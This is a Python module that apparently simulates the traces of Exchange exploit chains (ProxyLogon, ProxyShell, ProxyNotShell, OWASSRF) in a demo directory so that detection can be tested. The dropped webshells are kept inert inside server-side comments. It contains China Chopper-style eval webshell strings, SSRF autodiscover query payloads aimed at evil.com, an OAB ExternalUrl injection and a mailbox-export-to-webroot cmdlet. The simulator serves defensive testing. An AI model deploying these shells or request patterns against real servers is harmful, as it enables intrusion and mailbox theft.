"""Attack simulator: writes into a tree laid out like an Exchange server what each exploit
chain leaves behind (log lines in the real formats, and the dropped files), so a demo or a
test can show detection end to end without attacking anything.

Dropped "webshells" are inert: the shell text sits inside an ASP.NET server-side comment
(``<%-- ... --%>``), which the page compiler discards, so a page never runs it; content
scanners still see the marker they look for. The simulator refuses to write into a real
Exchange install unless forced.
"""

from __future__ import annotations

import csv
import io
import time
from collections.abc import Callable, Iterator
from dataclasses import dataclass, field
from datetime import UTC, datetime, timedelta
from pathlib import Path

import click

from agent.errors import AgentError

EXCHANGE = Path("Program Files/Microsoft/Exchange Server/V15")
IIS_FIELDS = [
    "date", "time", "s-ip", "cs-method", "cs-uri-stem", "cs-uri-query", "s-port", "cs-username",
    "c-ip", "cs(User-Agent)", "cs(Referer)", "sc-status", "sc-substatus", "sc-win32-status",
    "time-taken",
]  # fmt: skip
HTTPPROXY_FIELDS = [
    "DateTime", "RequestId", "MajorVersion", "MinorVersion", "BuildVersion", "RevisionVersion",
    "ClientRequestId", "Protocol", "UrlHost", "UrlStem", "ProtocolAction", "AuthenticationType",
    "IsAuthenticated", "AuthenticatedUser", "Organization", "AnchorMailbox", "UserAgent",
    "ClientIpAddress", "ServerHostName", "HttpStatus", "BackEndStatus", "ErrorCode", "Method",
    "ProxyAction", "TargetServer", "TargetServerVersion", "RoutingType", "RoutingHint",
    "BackEndCookie", "ServerLocatorHost", "ServerLocatorLatency", "RequestBytes", "ResponseBytes",
    "UrlQuery", "GenericInfo", "GenericErrors",
]  # fmt: skip
RPS_HTTP_FIELDS = [
    "DateTime", "StartTime", "RequestId", "MajorVersion", "MinorVersion", "BuildVersion",
    "RevisionVersion", "ClientRequestId", "UrlHost", "UrlStem", "AuthenticationType",
    "IsAuthenticated", "AuthenticatedUser", "Organization", "ClientIpAddress", "FrontEndServer",
    "HttpStatus", "SubStatus", "ErrorCode", "ClientInfo", "Cmdlets", "TotalRequestTime",
]  # fmt: skip
CMDLET_FIELDS = [
    "DateTime", "RequestId", "ClientRequestId", "ServerName", "ProcessName", "ProcessId",
    "UserId", "AuthenticatedUser", "ExecutingUserSid", "Cmdlet", "Parameters", "Success",
    "ExecutionTime", "GenericErrors",
]  # fmt: skip

ATTACKER_IP = "203.0.113.66"
SERVER_IP = "10.0.0.5"
HOST = "EXCH01"
BROWSER_UA = (
    "Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) "
    "Chrome/105.0.5195.54 Safari/537.36"
)
INERT = "exwatch simulation - inert: a server-side comment, never compiled or run"


def inert_page(shell: str, *, prefix: bytes = b"") -> bytes:
    """A page whose only code is a server-side comment holding the shell's text."""
    return prefix + f'<%@ Page Language="C#" %>\r\n<%-- {INERT}\r\n{shell}\r\n--%>\r\n'.encode()


CHOPPER = '<%@ Page Language="Jscript"%><%eval(Request.Item["exwatch"],"unsafe");%>'
OAB_SHELL = (
    '<script language="JScript" runat="server">function Page_Load()'
    '{eval(Request["exwatch"],"unsafe");}</script>'
)


# ---------------------------------------------------------------- steps


@dataclass(frozen=True, slots=True)
class LogLine:
    """One line appended to a log of a given format, under its folder of the tree."""

    kind: str  # iis | httpproxy | ecp | rps_http | cmdlet | oab
    folder: str  # relative to the system root
    fields: dict[str, str]
    site: str = "W3SVC1"


@dataclass(frozen=True, slots=True)
class DropFile:
    path: str  # relative to the system root
    content: bytes


@dataclass(frozen=True, slots=True)
class Step:
    title: str
    actions: list[LogLine | DropFile] = field(default_factory=list)


def _iis(
    t: datetime,
    method: str,
    stem: str,
    query: str,
    status: int,
    *,
    port: int = 443,
    user: str = "-",
    ua: str = BROWSER_UA,
    site: str = "W3SVC1",
) -> LogLine:
    return LogLine(
        "iis",
        "inetpub/logs/LogFiles/" + site,
        {
            "date": t.strftime("%Y-%m-%d"),
            "time": t.strftime("%H:%M:%S"),
            "s-ip": SERVER_IP,
            "cs-method": method,
            "cs-uri-stem": stem,
            "cs-uri-query": query or "-",
            "s-port": str(port),
            "cs-username": user,
            "c-ip": ATTACKER_IP,
            "cs(User-Agent)": ua.replace(" ", "+"),
            "cs(Referer)": "-",
            "sc-status": str(status),
            "sc-substatus": "0",
            "sc-win32-status": "0",
            "time-taken": "31",
        },
        site=site,
    )


def _proxy(
    t: datetime,
    protocol: str,
    method: str,
    stem: str,
    status: int,
    *,
    anchor: str = "",
    user: str = "",
    ua: str = "ExchangeServicesClient/0.0.0.0",
    query: str = "",
) -> LogLine:
    row = dict.fromkeys(HTTPPROXY_FIELDS, "")
    row.update(
        {
            "DateTime": _iso(t),
            "RequestId": f"sim-{t.timestamp():.0f}",
            "MajorVersion": "15",
            "MinorVersion": "2",
            "BuildVersion": "1118",
            "RevisionVersion": "7",
            "Protocol": protocol,
            "UrlHost": "mail.contoso.com",
            "UrlStem": stem,
            "IsAuthenticated": "true" if user else "false",
            "AuthenticatedUser": user,
            "AnchorMailbox": anchor,
            "UserAgent": ua,
            "ClientIpAddress": ATTACKER_IP,
            "ServerHostName": HOST,
            "HttpStatus": str(status),
            "BackEndStatus": str(status),
            "Method": method,
            "ProxyAction": "Proxy",
            "TargetServer": f"{HOST}.contoso.local",
            "UrlQuery": query,
        }
    )
    return LogLine("httpproxy", str(EXCHANGE / "Logging/HttpProxy" / protocol), row)


def _cmdlet(t: datetime, cmdlet: str, parameters: str) -> LogLine:
    row = dict.fromkeys(CMDLET_FIELDS, "")
    row.update(
        {
            "DateTime": _iso(t),
            "ServerName": HOST,
            "ProcessName": "w3wp",
            "AuthenticatedUser": "contoso.local/Users/Administrator",
            "Cmdlet": cmdlet,
            "Parameters": parameters,
            "Success": "True",
        }
    )
    return LogLine("cmdlet", str(EXCHANGE / "Logging/CmdletInfra/Powershell-Proxy/Cmdlet"), row)


def _rps(t: datetime, client_info: str, status: int) -> LogLine:
    row = dict.fromkeys(RPS_HTTP_FIELDS, "")
    row.update(
        {
            "DateTime": _iso(t),
            "UrlHost": "mail.contoso.com",
            "UrlStem": "/powershell",
            "IsAuthenticated": "true",
            "AuthenticatedUser": "contoso\\j.doe",
            "ClientIpAddress": ATTACKER_IP,
            "FrontEndServer": HOST,
            "HttpStatus": str(status),
            "ClientInfo": client_info,
        }
    )
    return LogLine("rps_http", str(EXCHANGE / "Logging/CmdletInfra/Powershell-Proxy/Http"), row)


def _iso(t: datetime) -> str:
    return t.strftime("%Y-%m-%dT%H:%M:%S.") + f"{t.microsecond // 1000:03d}Z"


OWA_AUTH = str(EXCHANGE / "FrontEnd/HttpProxy/owa/auth")
ASPNET_CLIENT = "inetpub/wwwroot/aspnet_client"


def proxylogon(t0: datetime) -> list[Step]:
    t = [t0 + timedelta(seconds=s) for s in range(0, 60, 5)]
    backend = f"ServerInfo~a]@{HOST}.contoso.local:444"
    anchor = f"{backend}/ecp/DDI/DDIService.svc/SetObject?schema=ResetOABVirtualDirectory#"
    ext_url = (
        f"Set-OabVirtualDirectory.ExternalUrl='http://f/{OAB_SHELL}'"
        f".Identity='{HOST}\\OAB (Default Web Site)'"
    )
    return [
        Step(
            "SSRF probe through the front end (CVE-2021-26855)",
            [
                _proxy(
                    t[0],
                    "Ecp",
                    "POST",
                    "/ecp/y.js",
                    200,
                    anchor=f"ServerInfo~a]@{HOST}.contoso.local:444/autodiscover/autodiscover.xml?#",
                ),
                _proxy(
                    t[1],
                    "Ecp",
                    "POST",
                    "/ecp/y.js",
                    200,
                    anchor=f"ServerInfo~a]@{HOST}.contoso.local:444/ecp/proxyLogon.ecp#",
                ),
                _iis(t[1], "POST", "/ecp/y.js", "", 200, ua="ExchangeServicesClient/0.0.0.0"),
            ],
        ),
        Step(
            "OAB virtual directory ExternalUrl set to a script (CVE-2021-27065)",
            [
                LogLine(
                    "ecp",
                    str(EXCHANGE / "Logging/ECP/Server"),
                    {
                        "TimeStamp": _iso(t[2]),
                        "ServerName": HOST,
                        "EventId": "ECP.Request",
                        "EventData": f"S:TIME=13;S:CMD={ext_url};S:REQID=;"
                        "S:URL=/ecp/DDI/DDIService.svc/SetObject?schema=OABVirtualDirectory",
                    },
                ),
            ],
        ),
        Step(
            "Virtual directory reset writes the config as a page",
            [
                _proxy(t[3], "Ecp", "POST", "/ecp/y.js", 200, anchor=anchor),
                DropFile(
                    f"{OWA_AUTH}/shell-oab.aspx",
                    inert_page(
                        f"ExternalUrl : http://f/{OAB_SHELL}\r\nInternalAuthenticationMethods : "
                        "{WindowsIntegrated}\r\nExtendedProtectionTokenChecking : None"
                    ),
                ),
            ],
        ),
        Step(
            "The attacker uses the shell",
            [
                _iis(t[5], "POST", "/owa/auth/shell-oab.aspx", "", 200),
            ],
        ),
    ]


def proxyshell(t0: datetime) -> list[Step]:
    t = [t0 + timedelta(seconds=s) for s in range(0, 60, 5)]
    export = (
        '-Mailbox "administrator" '
        '-FilePath "\\\\localhost\\c$\\inetpub\\wwwroot\\aspnet_client\\shell-pst.aspx"'
    )
    return [
        Step(
            "Autodiscover SSRF to the back end (CVE-2021-34473)",
            [
                _iis(
                    t[0],
                    "POST",
                    "/autodiscover/autodiscover.json",
                    "@evil.com/mapi/nspi/?&Email=autodiscover/autodiscover.json%3F@evil.com",
                    200,
                ),
                _iis(
                    t[1],
                    "POST",
                    "/autodiscover/autodiscover.json",
                    "@evil.com/powershell/?X-Rps-CAT=VgEAVAdXaW5kb3dzQwBBCEtlcmJlcm9z&Email=autodiscover/autodiscover.json%3F@evil.com",
                    200,
                ),
            ],
        ),
        Step(
            "Remote PowerShell as an administrator: export rights and a mailbox export",
            [
                _cmdlet(
                    t[2],
                    "New-ManagementRoleAssignment",
                    '-Role "Mailbox Import Export" -User "administrator"',
                ),
                _cmdlet(t[3], "New-MailboxExportRequest", export),
                DropFile(
                    f"{ASPNET_CLIENT}/shell-pst.aspx",
                    inert_page(CHOPPER, prefix=b"!BDN\x00\x00\x00\x00"),
                ),
                _cmdlet(
                    t[4],
                    "Remove-MailboxExportRequest",
                    '-Identity "administrator\\MailboxExport" -Confirm "False"',
                ),
            ],
        ),
        Step(
            "The attacker uses the shell",
            [
                _iis(t[6], "POST", "/aspnet_client/shell-pst.aspx", "", 200),
            ],
        ),
    ]


def proxynotshell(t0: datetime) -> list[Step]:
    t = [t0 + timedelta(seconds=s) for s in range(0, 60, 5)]
    return [
        Step(
            "Authenticated autodiscover SSRF to PowerShell (CVE-2022-41040)",
            [
                _iis(
                    t[0],
                    "POST",
                    "/autodiscover/autodiscover.json",
                    "@evil.com/Powershell&Email=autodiscover/autodiscover.json%3F@evil.com",
                    200,
                    user="contoso\\j.doe",
                ),
                _rps(t[1], BROWSER_UA, 200),
            ],
        ),
        Step(
            "Remote PowerShell deserialization drops a page (CVE-2022-41082)",
            [
                DropFile(f"{OWA_AUTH}/shell-pns.ashx", inert_page(CHOPPER)),
            ],
        ),
        Step(
            "The attacker uses the shell",
            [
                _iis(t[3], "POST", "/owa/auth/shell-pns.ashx", "", 200),
            ],
        ),
    ]


def owassrf(t0: datetime) -> list[Step]:
    t = [t0 + timedelta(seconds=s) for s in range(0, 60, 5)]
    return [
        Step(
            "OWA SSRF to PowerShell, bypassing the URL rewrite (CVE-2022-41080)",
            [
                _iis(
                    t[0],
                    "POST",
                    "/owa/j.doe@contoso.com/powershell",
                    "",
                    200,
                    user="contoso\\j.doe",
                ),
                _iis(
                    t[0],
                    "POST",
                    "/powershell",
                    "",
                    200,
                    port=444,
                    site="W3SVC2",
                    user="contoso\\j.doe",
                ),
                _rps(t[1], BROWSER_UA, 200),
            ],
        ),
        Step(
            "Remote PowerShell drops a page (CVE-2022-41082)",
            [
                DropFile(f"{ASPNET_CLIENT}/shell-owassrf.aspx", inert_page(CHOPPER)),
            ],
        ),
        Step(
            "The attacker uses the shell",
            [
                _iis(t[3], "POST", "/aspnet_client/shell-owassrf.aspx", "", 200),
            ],
        ),
    ]


def webshell(t0: datetime) -> list[Step]:
    return [
        Step(
            "A China Chopper page appears in aspnet_client",
            [
                DropFile(f"{ASPNET_CLIENT}/discover.aspx", inert_page(CHOPPER)),
            ],
        ),
        Step(
            "The attacker uses it",
            [
                _iis(t0 + timedelta(seconds=5), "POST", "/aspnet_client/discover.aspx", "", 200),
                _iis(
                    t0 + timedelta(seconds=6),
                    "GET",
                    "/aspnet_client/discover.aspx",
                    "cmd=whoami",
                    200,
                ),
            ],
        ),
    ]


CHAINS: dict[str, Callable[[datetime], list[Step]]] = {
    "proxylogon": proxylogon,
    "proxyshell": proxyshell,
    "proxynotshell": proxynotshell,
    "owassrf": owassrf,
    "webshell": webshell,
}


# ---------------------------------------------------------------- writing


class SimulationRefused(AgentError):
    """The target looks like a real Exchange server."""


def looks_real(root: Path) -> bool:
    """A real install has its binaries; a demo tree never does."""
    return (root / EXCHANGE / "Bin" / "ExSetup.exe").exists() or root.resolve() == Path(root.anchor)


def _log_path(root: Path, line: LogLine, now: datetime) -> Path:
    folder = root / line.folder
    name = {
        "iis": f"u_ex{now:%y%m%d}.log",
        "httpproxy": f"HttpProxy_{now:%Y%m%d%H}-1.LOG",
        "ecp": f"ECPServer{now:%Y%m%d%H}-1.LOG",
        "rps_http": f"Rps_Http_{now:%Y%m%d%H}-1.LOG",
        "cmdlet": f"Rps_Cmdlet_{now:%Y%m%d%H}-1.LOG",
    }[line.kind]
    return folder / name


def _header(line: LogLine, now: datetime) -> str:
    if line.kind == "iis":
        return (
            "#Software: Microsoft Internet Information Services 10.0\r\n#Version: 1.0\r\n"
            f"#Date: {now:%Y-%m-%d %H:%M:%S}\r\n#Fields: {' '.join(IIS_FIELDS)}\r\n"
        )
    log_type = {
        "httpproxy": "HttpProxy Logs",
        "ecp": "ECP Server Log",
        "rps_http": "Rps_Http Logs",
        "cmdlet": "Rps_Cmdlet Logs",
    }[line.kind]
    return (
        f"#Software: Microsoft Exchange Server\r\n#Version: 15.02.1118.007\r\n"
        f"#Log-type: {log_type}\r\n#Date: {_iso(now)}\r\n#Fields: {','.join(line.fields)}\r\n"
    )


def _render(line: LogLine) -> str:
    if line.kind == "iis":
        return " ".join(line.fields[f] for f in IIS_FIELDS) + "\r\n"
    out = io.StringIO()
    csv.writer(out, lineterminator="\r\n").writerow(line.fields.values())
    return out.getvalue()


def apply(root: Path, step: Step, now: datetime) -> Iterator[str]:
    """Carry out one step; yields what was written (relative paths)."""
    for action in step.actions:
        if isinstance(action, DropFile):
            path = root / action.path
            path.parent.mkdir(parents=True, exist_ok=True)
            path.write_bytes(action.content)
            yield action.path
            continue
        path = _log_path(root, action, now)
        path.parent.mkdir(parents=True, exist_ok=True)
        new = not path.exists()
        with path.open("a", encoding="utf-8", newline="") as fh:
            if new:
                fh.write(_header(action, now))
            fh.write(_render(action))
        yield str(path.relative_to(root))


def simulate(
    root: Path,
    chain: str,
    *,
    step_seconds: float = 0.0,
    force: bool = False,
    now: datetime | None = None,
    on_step: Callable[[Step], None] | None = None,
) -> list[str]:
    if chain not in CHAINS:
        raise AgentError(f"unknown chain {chain!r}; choose from {', '.join(CHAINS)}")
    if looks_real(root) and not force:
        raise SimulationRefused(
            f"{root} looks like a real Exchange server's drive; refusing (use --force to insist)"
        )
    now = now or datetime.now(UTC)
    written: list[str] = []
    for i, step in enumerate(CHAINS[chain](now)):
        if i and step_seconds:
            time.sleep(step_seconds)
        if on_step:
            on_step(step)
        written += apply(root, step, now)
    return written


@click.command("simulate")
@click.argument("chain", type=click.Choice(list(CHAINS)))
@click.option(
    "--root",
    required=True,
    type=click.Path(path_type=Path, file_okay=False),
    help="The demo tree standing for the server's system drive.",
)
@click.option(
    "--pace",
    type=click.Choice(["instant", "realistic"]),
    default="instant",
    show_default=True,
    help="realistic: pause between the chain's steps.",
)
@click.option(
    "--step-seconds",
    type=float,
    default=5.0,
    show_default=True,
    help="Pause between steps with --pace realistic.",
)
@click.option("--force", is_flag=True, help="Write even into what looks like a real install.")
def simulate_command(chain: str, root: Path, pace: str, step_seconds: float, force: bool) -> None:
    """Replay what an Exchange exploit CHAIN leaves behind (inert) into a demo tree."""
    root.mkdir(parents=True, exist_ok=True)
    try:
        written = simulate(
            root,
            chain,
            step_seconds=step_seconds if pace == "realistic" else 0,
            force=force,
            on_step=lambda step: click.echo(f"- {step.title}"),
        )
    except AgentError as exc:
        raise click.ClickException(str(exc)) from exc
    for rel in dict.fromkeys(written):
        click.echo(f"  wrote {rel}")
